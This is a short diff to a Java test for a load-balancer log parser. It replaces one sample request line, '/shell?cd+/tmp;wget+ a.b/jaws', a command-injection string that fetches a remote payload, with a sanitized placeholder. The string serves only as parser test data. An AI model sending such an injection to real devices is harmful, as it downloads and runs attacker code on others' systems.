@@ -145,7 +145,7 @@ class AlbParserTest {
       quoteCharacter = '`',
       value = {
         "GET https://h.example:443/Q?bar=\\x22 HTTP/2.0|GET|https|h.example|443|/Q|bar=\\x22|HTTP/2.0",
-        "GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.b/jaws HTTP/1.1|GET|http|127.0.0.1|80|/shell|cd+/tmp;wget+ a.b/jaws|HTTP/1.1",
+        "GET http://192.0.2.8:80/run?go+/home;fetch+ a.b/c HTTP/1.1|GET|http|192.0.2.8|80|/run|go+/home;fetch+ a.b/c|HTTP/1.1",
         "`- http://lb.example:80- `||http|lb.example|80|||",
         "`- http://lb.example:80-/ `||http|lb.example|80|||",
         "`- http://lb.example:80- -`||http|lb.example|80|||",
